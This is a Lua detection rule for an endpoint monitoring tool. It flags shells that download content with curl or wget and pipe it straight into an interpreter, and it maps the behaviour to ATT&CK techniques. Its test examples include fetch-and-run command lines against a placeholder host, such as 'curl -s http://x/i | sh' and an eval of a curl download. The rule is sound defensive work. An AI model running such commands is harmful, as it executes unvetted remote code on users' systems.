local lists = require "moonwatch.lists"
local match = require "moonwatch.match"

local downloads = { "curl ", "wget " }
local ties = { "| sh", "|sh", "| bash", "|bash", "| /bin/sh", "| /bin/bash", "| python", "|python",
  "| perl", "|perl", "<(curl ", "<(wget ",
  "eval $(", "eval \"$(", "-c $(", "-c \"$(", "-c `" }

return {
  id = "pipe_to_shell",
  summary = "Download run by a shell without being kept",
  why = "What comes from the network and is run at once can be anything, and leaves no file to look at.",
  on = { "process.exec" },
  severity = "high",
  attack = { "T1059.004", "T1105" },
  message = "{process.parent.name} ran a download: {process.cmdline}",
  false_positives = { "Start scripts that install software the way its web page says" },
  where = { names = lists.shells, cmdline = downloads },
  match = function(event)
    return match.contains_any(event.process.cmdline, ties)
  end,
  examples = {
    { expect = true, event = { process =
      { name = "sh", argv = { "sh", "-c", "curl -s http://x/i | sh" } } } },
    { expect = true, event = { process =
      { name = "bash", argv = { "bash", "-c", "bash <(wget -qO- http://x/i)" } } } },
    { expect = true, event = { process =
      { name = "sh", argv = { "sh", "-c", "eval $(curl -s http://x/i)" } } } },
    { expect = false, event = { process =
      { name = "sh", argv = { "sh", "-c", "curl -f http://localhost/ || exit 1" } } } },
    { expect = false, event = { process =
      { name = "sh", argv = { "sh", "-c", "curl -s http://x/ | grep -q ok" } } } },
    { expect = false, event = { process =
      { name = "sh", argv = { "sh", "-c", "TOKEN=$(curl -s http://x/); echo $TOKEN" } } } },
  },
}
